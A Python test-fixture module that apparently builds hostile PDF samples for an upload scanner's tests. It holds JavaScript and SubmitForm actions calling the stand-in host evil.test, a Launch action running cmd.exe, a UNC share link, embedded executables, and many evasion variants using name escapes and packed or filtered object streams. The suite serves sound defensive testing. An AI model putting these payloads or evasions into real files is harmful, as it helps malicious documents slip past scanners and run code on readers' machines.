"""PDF that runs, opens, sends or hides something."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from tests.uploads.corpus.files import Areas, Hostile, honest
from tests.uploads.kinds.pdfs import PAGE, TRAILER, packed, pdf, stream

FAMILY = "papers"
SCRIPT = b"<< /S /JavaScript /JS (app.launchURL\\('https://evil.test'\\)) >>"


def opening(value: bytes) -> bytes:
    """Return a catalog that says what to do first."""
    return b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % value


def saved_again(content: bytes) -> bytes:
    """Return a real PDF with one more object behind it, as programs save changes."""
    base = honest("reportlab-words.pdf")
    start = base.rindex(b"startxref") + 10
    table = base[start:].split()[0]
    at = len(base) + 1
    return (
        b"%s\n99 0 obj\n%s\nendobj\nxref\n99 1\n%010d 00000 n \n"
        b"trailer\n<< /Size 100 /Root 99 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n"
        % (
            base,
            content,
            at,
            table,
            at + len(content) + 18,
        )
    )


def rows() -> Iterator[tuple[str, bytes, Areas]]:
    """Yield title, content and what refuses it."""
    yield "script", pdf(SCRIPT), ("pdf",)
    yield "script on opening", pdf(SCRIPT, catalog=opening(b"4 0 R")), ("pdf",)
    yield "script on opening, at once", pdf(catalog=opening(SCRIPT)), ("pdf",)
    yield "script on turning a page", pdf(PAGE[:-2] + b"/AA << /O 5 0 R >> >>", SCRIPT), ("pdf",)
    yield (
        "script in a tree of names",
        pdf(b"<< /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>"),
        ("pdf",),
    )
    yield "script by a film", pdf(b"<< /S /Rendition /OP 0 /JS (x) >>"), ("pdf",)
    yield "script added to a real paper", saved_again(SCRIPT), ("pdf",)
    yield (
        "script in a real form",
        honest("reportlab-form.pdf").replace(
            b"endobj", b"endobj\n98 0 obj" + SCRIPT + b"endobj", 1
        ),
        ("pdf",),
    )
    yield "script that is packed", pdf(packed(SCRIPT)), ("pdf",)
    yield (
        "script that is packed without a type",
        pdf(packed(SCRIPT).replace(b"/Type /ObjStm ", b"")),
        ("pdf",),
    )
    yield (
        "script that is packed by another",
        pdf(packed(SCRIPT, keys=b"/Filter /LZWDecode")),
        ("pdf",),
    )
    yield (
        "script that is packed in letters",
        pdf(packed(SCRIPT, keys=b"/Filter [/ASCIIHexDecode /FlateDecode]")),
        ("pdf",),
    )
    yield (
        "script that is packed with a predictor",
        pdf(packed(SCRIPT, keys=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
        ("pdf",),
    )
    yield (
        "script that is packed as told elsewhere",
        pdf(packed(SCRIPT, keys=b"/Filter 9 0 R")),
        ("pdf",),
    )
    yield "script with an escape", pdf(b"<< /S /J#61vaScript /JS (x) >>"), ("pdf",)
    yield "script with escapes only", pdf(b"<< /S /#4a#61#76#61#53#63#72#69#70#74 >>"), ("pdf",)
    yield "packing with an escape", pdf(packed(SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")), ("pdf",)
    yield "script after a comment", pdf(b"<< /S %% (\n/JavaScript /JS (x) >>"), ("pdf",)
    yield (
        "script in capitals of an action",
        pdf(b"<< /Type/Action/S/JavaScript/JS<6170702e616c657274> >>"),
        ("pdf",),
    )
    yield "program", pdf(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), ("pdf",)
    yield "program on opening", pdf(catalog=opening(b"<< /S /Launch /F (a) >>")), ("pdf",)
    yield (
        "address on opening",
        pdf(catalog=opening(b"<< /S /URI /URI (https://evil.test/) >>")),
        ("pdf",),
    )
    yield (
        "address on opening, elsewhere",
        pdf(b"<< /S /URI /URI (https://evil.test/) >>", catalog=opening(b"4 0 R")),
        ("pdf",),
    )
    yield "action named on opening", pdf(catalog=opening(b"<< /S /Named /N /Print >>")), ("pdf",)
    yield "form of xml", pdf(b"<< /XFA 5 0 R >>", stream(b"", b"<xdp/>")), ("pdf",)
    yield "form of xml in parts", pdf(b"<< /XFA [(a) 5 0 R] >>"), ("pdf",)
    yield "form that sends", pdf(b"<< /S /SubmitForm /F (https://evil.test/) >>"), ("pdf",)
    yield "data from outside", pdf(b"<< /S /ImportData /F (a.fdf) >>"), ("pdf",)
    yield "file inside", pdf(stream(b"/Type /EmbeddedFile", b"MZ")), ("pdf",)
    yield "files inside", pdf(b"<< /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"), ("pdf",)
    yield "file in a note", pdf(b"<< /Type /Annot /Subtype /FileAttachment >>"), ("pdf",)
    yield "film", pdf(b"<< /Subtype /RichMedia >>"), ("pdf",)
    yield "link to a share", pdf(b"<< /S /GoToR /F (\\\\\\\\evil.test\\\\a) >>"), ("pdf",)
    yield "link to a file inside", pdf(b"<< /S /GoToE /T << /R /C >> >>"), ("pdf",)
    yield "encryption", pdf(trailer=TRAILER[:-2] + b"/Encrypt 5 0 R >>"), ("pdf",)
    yield "paper in a paper", pdf(stream(b"/Type /EmbeddedFile", pdf(SCRIPT))), ("pdf",)
    yield "late start", b"\n" * 900 + pdf(), ("content",)
    yield "no version", pdf().replace(b"1.7", b"1.x", 1), ("content",)
    yield "header alone", b"%PDF-1.7\n%%EOF\n", ("content",)
    yield "no page", pdf().replace(b"/Type /Page ", b"/Type /None "), ("content",)
    yield "more behind the end", pdf() + b"A" * 2_000, ("content",)
    yield (
        "script in a stream that is packed",
        pdf(stream(b"/Filter /FlateDecode /First 4", zlib.compress(b"9 0 " + SCRIPT))),
        ("pdf",),
    )


def files() -> Iterator[Hostile]:
    """Yield the family."""
    for title, content, areas in rows():
        yield Hostile(FAMILY, title, "a.pdf", content, areas)
